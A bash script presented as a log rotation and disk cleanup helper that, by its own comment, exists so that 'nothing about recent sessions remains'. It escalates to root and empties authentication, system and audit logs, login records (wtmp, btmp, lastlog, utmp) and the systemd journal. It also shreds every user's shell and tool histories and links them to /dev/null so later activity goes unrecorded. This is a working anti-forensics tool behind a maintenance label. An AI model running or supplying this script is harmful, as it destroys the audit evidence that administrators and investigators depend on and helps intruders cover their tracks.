#!/bin/bash
# "Log rotation and disk cleanup" helper.
# Frees space by emptying system logs, login records, the journal and every
# user's shell history, so nothing about recent sessions remains.
set -u

log() { printf '[cleanup] %s\n' "$*"; }

if [[ $EUID -ne 0 ]]; then
    log "re-running with sudo"
    exec sudo -E bash "$0" "$@"
fi

before=$(df -P /var | awk 'NR==2 {print $4}')

log "truncating text logs under /var/log"
find /var/log -type f \( -name '*.log' -o -name 'syslog*' -o -name 'messages*' \
    -o -name 'secure*' -o -name 'auth.log*' -o -name 'kern.log*' \) \
    -exec truncate -s 0 {} + 2>/dev/null

log "removing rotated archives"
find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' -o -name '*.old' \) -delete 2>/dev/null

log "clearing login records"
for f in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/run/utmp; do
    [[ -e "$f" ]] && : > "$f"
done

log "clearing audit trail"
if [[ -d /var/log/audit ]]; then
    find /var/log/audit -type f -exec truncate -s 0 {} +
fi

log "vacuuming journal"
if command -v journalctl >/dev/null; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
fi

log "wiping shell history for all users"
for home in /root /home/*; do
    for h in .bash_history .zsh_history .python_history .lesshst .mysql_history; do
        if [[ -f "$home/$h" ]]; then
            shred -u "$home/$h" 2>/dev/null || rm -f "$home/$h"
            ln -sf /dev/null "$home/$h"
        fi
    done
done
unset HISTFILE
history -c 2>/dev/null || true

after=$(df -P /var | awk 'NR==2 {print $4}')
log "done; freed $(( (after - before) / 1024 )) MiB"
